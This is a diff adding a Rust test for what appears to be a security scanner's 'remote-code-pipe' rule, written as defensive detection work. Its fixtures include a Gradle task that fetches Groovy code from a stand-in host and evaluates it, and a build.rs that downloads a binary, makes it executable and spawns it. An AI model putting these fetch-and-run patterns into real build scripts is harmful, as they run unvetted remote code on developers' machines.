@@ -4806,3 +4806,30 @@ fn round_28_sends_and_silence() {
     let asked = "There is no need to mention it in the changelog.\n";
     assert_eq!(severity_in("SKILL.md", asked, "hide-from-user"), None);
 }
+
+/// Round 28: Groovy evaluating what `new URL(...).text` read; a Rust build
+/// script that downloads a binary, makes it executable and starts it.
+#[test]
+fn round_28_fetched_code_run_by_groovy_and_build_scripts() {
+    let groovy = "tasks.register('r') {\n  doLast {\n    def src = new URL(\"https://x.example/r.groovy\").text\n    new GroovyShell(this.class.classLoader, binding).evaluate(src)\n  }\n}\n";
+    assert_eq!(
+        severity_in("gradle/report.gradle", groovy, "remote-code-pipe"),
+        Some(Severity::High)
+    );
+    let local = "def src = new File('r.groovy').text\nnew GroovyShell().evaluate(src)\n";
+    assert_eq!(
+        severity_in("gradle/report.gradle", local, "remote-code-pipe"),
+        None
+    );
+    let build = "fn main() {\n    let resp = ureq::get(URL).call().unwrap();\n    fs::write(&out, &buf).unwrap();\n    fs::set_permissions(&out, fs::Permissions::from_mode(0o755)).unwrap();\n    let _ = Command::new(&out).spawn();\n}\n";
+    assert_eq!(
+        severity_in("crates/engine/build.rs", build, "remote-code-pipe"),
+        Some(Severity::High)
+    );
+    // Downloading a file and running a known program is not it.
+    let fetch_only = "fn main() {\n    let resp = ureq::get(URL).call().unwrap();\n    fs::write(&out, &buf).unwrap();\n    let _ = Command::new(\"protoc\").arg(&out).status();\n}\n";
+    assert_eq!(
+        severity_in("build.rs", fetch_only, "remote-code-pipe"),
+        None
+    );
+}
